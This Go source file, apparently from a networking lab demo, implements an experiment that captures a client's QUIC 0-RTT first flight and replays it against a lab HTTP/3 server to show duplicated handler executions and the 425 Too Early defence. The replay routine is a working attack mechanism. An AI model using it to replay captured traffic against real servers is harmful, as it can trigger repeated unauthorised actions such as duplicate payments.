package quicdemo

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"time"

	"github.com/quic-go/quic-go/http3"

	"github.com/netdemo/netdemo/internal/lab"
	"github.com/netdemo/netdemo/internal/netx"
)

// replayed is what the replay experiment observed.
type replayed struct {
	Path     string
	Flight   []datagram // the client's first flight, as copied off the link
	Early    *fetched   // the client's answer to its 0-RTT request
	Retry    *fetched   // the client's retry after 425 Too Early (safe path only)
	Charges  []charge   // handler executions, the client's and the replays'
	Attempts int        // replays sent until the server acted on one
	After    time.Duration
}

// replayWait is the pause between replays. The server still knows the
// original connection's IDs for three PTOs after it ended (RFC 9000 §10.2,
// the draining period); a replay inside that window lands on the dead
// connection and is ignored, so we try again a little later.
const (
	replayWait     = 400 * time.Millisecond
	replayAttempts = 8
)

// replayZeroRTT plays an on-path attacker. A client that holds a session
// ticket sends GET path as 0-RTT early data; a tap on the lab link copies
// the client's first flight (the datagrams it sent before the server's first
// answer). After the connection has ended, the copies are sent again from
// another port of the client host, unchanged. The attacker has no keys and
// could never finish the handshake, but the early data needs none: it is
// encrypted with keys that derive from the ticket and the ClientHello, both
// in the copy.
func replayZeroRTT(ctx context.Context, l *lab.Lab, b bed, srv *servers, path string) (*replayed, error) {
	out := &replayed{Path: path}
	before := len(srv.site.Charges())

	tickets := newTicketCache()
	cfg := srv.tlsClient.Clone()
	cfg.ClientSessionCache = tickets
	first, err := newH3Client(ctx, b, srv.h3.port, cfg)
	if err != nil {
		return nil, err
	}
	_, err = fetch(ctx, first.rt, http.MethodGet, h3URL(srv.h3.port, "/"), nil)
	first.Close()
	if err != nil {
		return nil, fmt.Errorf("getting a session ticket: %w", err)
	}
	if err := tickets.wait(ctx, 5*time.Second); err != nil {
		return nil, err
	}

	c, err := newH3Client(ctx, b, srv.h3.port, cfg)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	capture := recordUDP(l, c.port)
	remove := capture.stop
	out.Early, err = fetch(ctx, c.rt, http3.MethodGet0RTT, h3URL(srv.h3.port, path), nil)
	remove()
	if err != nil {
		return nil, err
	}
	if conns := c.Conns(); len(conns) != 1 || !conns[0].ConnectionState().Used0RTT {
		return nil, fmt.Errorf("the client's request did not go out as 0-RTT early data")
	}
	if out.Early.Status == http.StatusTooEarly {
		// RFC 8470 §5.2: the client retries once the handshake is done.
		if out.Retry, err = fetch(ctx, c.rt, http.MethodGet, h3URL(srv.h3.port, path), nil); err != nil {
			return nil, fmt.Errorf("retrying after 425: %w", err)
		}
	}
	c.Close()
	out.Flight = capture.firstFlight()
	if len(out.Flight) == 0 {
		return nil, fmt.Errorf("the tap saw no datagram of the client's first flight")
	}

	server := net.UDPAddrFromAddrPort(netip.AddrPortFrom(b.serverIP, srv.h3.port))
	sent := time.Now()
	for out.Attempts < replayAttempts {
		out.Attempts++
		pc, err := sendAll(ctx, b, server, out.Flight)
		if err != nil {
			return nil, err
		}
		// Keep the socket open until we are done, so that the server's
		// answers are not met with ICMP errors that would end its side.
		defer pc.Close()
		if waitCharge(ctx, srv.site, before, netx.Port(pc.LocalAddr()), replayWait) {
			out.After = time.Since(sent)
			break
		}
	}
	out.Charges = srv.site.Charges()[before:]
	return out, nil
}

// sendAll sends the datagrams from a fresh socket of the client host and
// returns the socket. Nothing reads the server's answers: the attacker
// could not decrypt them anyway.
func sendAll(ctx context.Context, b bed, to net.Addr, flight []datagram) (net.PacketConn, error) {
	pc, err := b.client.ListenPacket(ctx, "udp", net.JoinHostPort(b.listenHost, "0"))
	if err != nil {
		return nil, fmt.Errorf("opening the replaying socket: %w", err)
	}
	for _, d := range flight {
		if _, err := pc.WriteTo(d.Payload, to); err != nil {
			pc.Close()
			return nil, fmt.Errorf("replaying a datagram: %w", err)
		}
	}
	return pc, nil
}

// waitCharge waits up to limit for a handler execution from port.
func waitCharge(ctx context.Context, s *site, before int, port uint16, limit time.Duration) bool {
	deadline := time.Now().Add(limit)
	for time.Now().Before(deadline) && ctx.Err() == nil {
		for _, c := range s.Charges()[before:] {
			if remotePort(c.Remote) == port {
				return true
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

func remotePort(addr string) uint16 {
	_, p, err := net.SplitHostPort(addr)
	if err != nil {
		return 0
	}
	n, _ := strconv.Atoi(p)
	return uint16(n)
}
